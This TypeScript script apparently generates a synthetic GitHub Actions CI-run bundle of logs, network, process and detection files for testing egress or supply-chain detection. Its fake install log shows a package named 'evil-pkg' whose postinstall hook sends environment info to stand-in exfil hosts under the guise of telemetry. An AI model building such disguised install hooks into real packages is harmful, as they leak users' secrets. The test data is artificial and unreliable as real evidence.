seq(4, 19.8103, 0.0011, [
  'npm warn deprecated inflight@1.0.6: This module is not supported, and leaks memory. Do not use it. Check out lru-cache if you want a good and tested way to coalesce async requests by a key value, which is much more comprehensive and powerful.',
  'npm warn deprecated glob@7.2.3: Glob versions prior to v9 are no longer supported',
  '',
  '> evil-pkg@2.4.1 postinstall',
  '> node scripts/postinstall.js',
  '',
]);
L(4, 20.6404, 'evil-pkg: collecting anonymous environment info for install statistics');
L(4, 21.0701, 'evil-pkg: background sync enabled (beacon.exfil.example)');
L(4, 21.4022, 'evil-pkg: sending install telemetry to https://telemetry.exfil.example/v2/collect (set EVIL_PKG_NO_TELEMETRY=1 to opt out)');
L(4, 21.9411, '{"ok":true,"id":"c0ll-7f3a9e"}');
L(4, 22.8504, 'evil-pkg: done');
seq(4, 22.9902, 0.0013, ['', '> esbuild@0.25.10 postinstall', '> node install.js', '']);
L(4, 23.3121, 'npm http fetch GET 200 https://registry.example.org/@esbuild/linux-x64/-/linux-x64-0.25.10.tgz 811ms (cache miss)');
L(4, 30.7163, 'npm http fetch POST 200 https://registry.example.org/-/npm/v1/security/advisories/bulk 512ms');
seq(4, 31.6514, 0.0009, [
  '',
  `added ${PACKAGES.length + 2} packages, and audited ${PACKAGES.length + 3} packages in 21s`,
  '',
  '31 packages are looking for funding',
  '  run `npm fund` for details',
  '',
  '2 moderate severity vulnerabilities',
  '',
  'To address all issues, run:',
  '  npm audit fix',
  '',
  'Run `npm audit` for details.',
]);

// 5 npm test
const green = (s: string) => `${ESC}[32m${s}${ESC}[39m`;
const dim = (s: string) => `${ESC}[2m${s}${ESC}[22m`;
seq(5, 31.8204, 0.0002, ['##[group]Run npm test', cyan('npm test'), 'shell: /usr/bin/bash -e {0}', '##[endgroup]']);
seq(5, 32.2101, 0.0004, ['', '> web@1.4.0 test', '> vitest run && node scripts/check-bundle-size.js', '']);
L(5, 32.9812, `${ESC}[1m${ESC}[46m RUN ${ESC}[49m${ESC}[22m ${ESC}[36mv3.2.4 ${ESC}[39m${ESC}[90m${WORK}${ESC}[39m`);
L(5, 32.9815, '');
const TEST_FILES: [string, number, number, string[]][] = [
  ['src/lib/format.test.ts', 12, 9, []],
  ['src/lib/dates.test.ts', 18, 14, []],
  ['src/lib/csv.test.ts', 9, 21, []],
  ['src/lib/url.test.ts', 7, 4, []],
  ['src/state/store.test.ts', 21, 48, []],
  ['src/state/selectors.test.ts', 16, 11, []],
  ['src/api/client.test.ts', 14, 2210, ['retries on 503 with backoff 1503ms', 'gives up after 3 attempts 612ms']],
  ['src/api/cache.test.ts', 11, 37, []],
  ['src/charts/axis.test.ts', 8, 102, []],
  ['src/charts/timeline.test.tsx', 19, 3408, ['renders 10k points 2210ms', 'zooms on wheel 901ms']],
  ['src/charts/tree.test.tsx', 13, 1877, ['lays out a deep tree 1310ms']],
  ['src/components/Table.test.tsx', 24, 1466, ['virtualizes 50k rows 1022ms']],
  ['src/components/Filter.test.tsx', 17, 322, []],
  ['src/components/Header.test.tsx', 6, 88, []],
  ['src/components/Dialog.test.tsx', 9, 141, []],
  ['src/pages/Dashboard.test.tsx', 15, 4120, ['loads the dashboard 2987ms', 'switches tabs 804ms']],
  ['src/pages/Settings.test.tsx', 11, 677, []],
  ['src/pages/Runs.test.tsx', 14, 5233, ['paginates 3120ms', 'filters by branch 1651ms']],
  ['scripts/annotate.test.ts', 5, 6, []],
  ['scripts/check-bundle-size.test.ts', 4, 12, []],
  ['test/integration/e2e-auth.test.ts', 12, 18342, ['logs in 6021ms', 'refreshes the token 5510ms', 'logs out 3100ms']],
  ['test/integration/e2e-upload.test.ts', 10, 14120, ['uploads a 10 MB file 9803ms']],
  ['test/integration/e2e-search.test.ts', 14, 9650, ['finds by title 4012ms']],
  ['test/integration/e2e-export.test.ts', 9, 7210, ['exports CSV 3980ms']],
];
let t = 35.2;
let totalTests = 0;
for (const [name, n, ms, slow] of TEST_FILES) {
  totalTests += n;
  if (name === 'scripts/annotate.test.ts') {
    L(5, t, `${ESC}[90mstdout${ESC}[2m | scripts/annotate.test.ts${ESC}[2m > ${ESC}[22m${ESC}[2mannotate${ESC}[2m > ${ESC}[22m${ESC}[2mformats errors for GitHub${ESC}[22m${ESC}[39m`);
    L(5, t + 0.0003, "##[error]Type 'string' is not assignable to type 'number'.");
    L(5, t + 0.0005, '');
    t += 0.01;
  }
  L(5, t, ` ${green('✓')} ${name} ${dim('(')}${dim(`${n} tests`)}${dim(')')}${green(` ${ms}${dim('ms')}`)}`);
  for (const s of slow) {
    const [label, dur] = [s.slice(0, s.lastIndexOf(' ')), s.slice(s.lastIndexOf(' ') + 1)];
    L(5, t + 0.0001, `   ${green('✓')} ${label} ${ESC}[33m${dur}${ESC}[39m`);
  }
  t += Math.max(0.4, ms / 1000 / 2.1);
}
seq(5, 100.0212, 0.0003, [
  '',
  `${dim(' Test Files ')} ${ESC}[1m${green(`${TEST_FILES.length} passed`)}${ESC}[22m${ESC}[90m (${TEST_FILES.length})${ESC}[39m`,
  `${dim('      Tests ')} ${ESC}[1m${green(`${totalTests} passed`)}${ESC}[22m${ESC}[90m (${totalTests})${ESC}[39m`,
  `${dim('   Start at ')} 09:12:32`,
  `${dim('   Duration ')} 67.71s${dim(' (transform 3.10s, setup 1.22s, collect 9.87s, tests 61.93s, environment 12.40s, prepare 2.05s)')}`,
  '',
]);
L(5, 100.8113, 'bundle size: dist/assets/index-3f9c2a.js 312.4 kB (budget 300 kB)');
L(5, 100.8121, '##[warning]Bundle size 312.4 kB exceeds the 300 kB budget');

// 6 post checkout
seq(6, 108.7012, 0.0005, ['Post job cleanup.']);
seq(6, 108.7991, 0.0101, ['[command]/usr/bin/git version', 'git version 2.51.0']);
seq(6, 108.8302, 0.012, [
  `Temporarily overriding HOME='${TEMP}/3e8a5f1c-0d2b-47c9-a61e-9b4d7c2f0e85' before making global git config changes`,
  'Adding repository directory to the temporary git global config as a safe directory',
  `[command]/usr/bin/git config --global --add safe.directory ${WORK}`,
  '[command]/usr/bin/git config --local --name-only --get-regexp core\\.sshCommand',
  "[command]/usr/bin/git submodule foreach --recursive sh -c \"git config --local --name-only --get-regexp 'core\\.sshCommand' && git config --local --unset-all 'core.sshCommand' || :\"",
  '[command]/usr/bin/git config --local --name-only --get-regexp http\\.https\\:\\/\\/github\\.com\\/\\.extraheader',
  'http.https://github.com/.extraheader',
  '[command]/usr/bin/git config --local --unset-all http.https://github.com/.extraheader',
  "[command]/usr/bin/git submodule foreach --recursive sh -c \"git config --local --name-only --get-regexp 'http\\.https\\:\\/\\/github\\.com\\/\\.extraheader' && git config --local --unset-all 'http.https://github.com/.extraheader' || :\"",
]);

// 7 complete job
L(7, 112.0503, 'Cleaning up orphan processes');
L(7, 112.0911, 'Terminate orphan process: pid (2144) (node)');

// ---------------------------------------------------------------- write
function rmOwn(dir: string): void {
  for (const f of ['manifest.json', 'network.jsonl', 'dns.jsonl', 'processes.jsonl', 'process-table.csv', 'files.jsonl', 'detections.json']) {
    fs.rmSync(path.join(dir, f), { force: true });
  }
  fs.rmSync(path.join(dir, 'logs'), { recursive: true, force: true });
}
const bySec = <T extends { sec: number }>(a: T[]) => [...a].sort((x, y) => x.sec - y.sec);
const jsonl = (rows: { json: Record<string, unknown> }[]) => rows.map((r) => JSON.stringify(r.json)).join('\n') + '\n';
function csvField(s: string | number): string {
  const v = String(s);
  return /[",\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
}

fs.mkdirSync(outDir, { recursive: true });
rmOwn(outDir);

const manifest = {
  format: 'ci-run-bundle',
  version: 1,
  producer: { name: 'runner-telemetry-export', version: '1.4.0' },
  run: {
    repository: 'acme/web',
    workflow: 'CI',
    workflow_path: '.github/workflows/ci.yml',
    run_id: 18311492377,
    run_attempt: 1,
    job: 'test',
    job_id: 81853656807,
    head_sha: HEAD_SHA,
    ref: 'refs/heads/main',
    event: 'push',
    runner: { os: 'Linux', image: 'ubuntu-24.04', name: 'GitHub Actions 1000042' },
    started_at: ts7(3.1),
    completed_at: ts7(113.0),
  },
  policy: {
    egress_policy: 'audit',
    allowed_endpoints: ['github.com:443', '*.github.com:443', 'registry.example.org:443', 'objects.githubusercontent.com:443'],
  },
  steps: STEPS.map((s) => ({
    number: s.number,
    name: s.name,
    ...('uses' in s ? { uses: s.uses } : {}),
    started_at: ts7(s.start),
    completed_at: ts7(s.end),
    conclusion: 'success',
  })),
};
fs.writeFileSync(path.join(outDir, 'manifest.json'), JSON.stringify(manifest, null, 2) + '\n');
fs.writeFileSync(path.join(outDir, 'network.jsonl'), jsonl(bySec(net)));
fs.writeFileSync(path.join(outDir, 'dns.jsonl'), jsonl(bySec(dns)));
fs.writeFileSync(path.join(outDir, 'processes.jsonl'), jsonl(bySec(procEvents)));
fs.writeFileSync(path.join(outDir, 'files.jsonl'), jsonl(bySec(files)));
fs.writeFileSync(path.join(outDir, 'detections.json'), JSON.stringify(detections, null, 2) + '\n');
fs.writeFileSync(
  path.join(outDir, 'process-table.csv'),
  'pid,ppid,start,end,exe,args,cwd,uid\n' +
    tableRows.map((r) => [r.pid, r.ppid, r.start, r.end, r.exe, r.args, r.cwd, r.uid].map(csvField).join(',')).join('\n') +
    '\n',
);

// Logs as GitHub's archive: logs/test/<n>_<step>.txt (GitHub drops '/' from names) and logs/1_test.txt (all lines).
const BOM = '\uFEFF';
const jobDir = path.join(outDir, 'logs', 'test');
fs.mkdirSync(jobDir, { recursive: true });
const all: string[] = [];
for (const s of STEPS) {
  const lines = [...logs.get(s.number)!].sort((a, b) => a[0] - b[0]);
  for (const [sec] of lines) {
    if (sec < s.start || sec > s.end) throw new Error(`log line at ${sec}s outside step ${s.number} [${s.start}, ${s.end}]`);
  }
  const text = lines.map(([sec, l]) => `${ts7(sec)} ${l}`);
  all.push(...text);
  const fileName = `${s.number}_${s.name.replace(/[/:*?"<>|\\]/g, '')}.txt`;
  fs.writeFileSync(path.join(jobDir, fileName), BOM + text.join('\n') + '\n');
}
fs.writeFileSync(path.join(outDir, 'logs', '1_test.txt'), BOM + all.join('\n') + '\n');

// Sanity: every timed record of a pid falls inside a step; counts for the README.
console.log(
  `sample bundle: ${outDir}\n` +
    `  network ${net.length}, dns ${dns.length}, process events ${procEvents.length}, table rows ${tableRows.length}, ` +
    `files ${files.length}, detections ${detections.length}, log lines ${all.length}`,
);
